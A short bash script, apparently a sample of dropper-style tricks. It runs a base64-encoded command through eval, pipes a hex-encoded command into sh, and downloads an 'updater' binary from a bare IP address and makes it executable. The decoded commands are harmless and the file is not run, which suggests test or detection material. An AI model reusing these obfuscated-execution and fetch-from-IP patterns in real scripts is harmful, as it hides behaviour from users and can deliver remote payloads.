#!/bin/bash
eval "$(echo ZWNobyBoaQ== | base64 -d)"
printf '\x63\x75\x72\x6c' | sh
curl -sO https://203.0.113.9/tools/updater && chmod +x updater
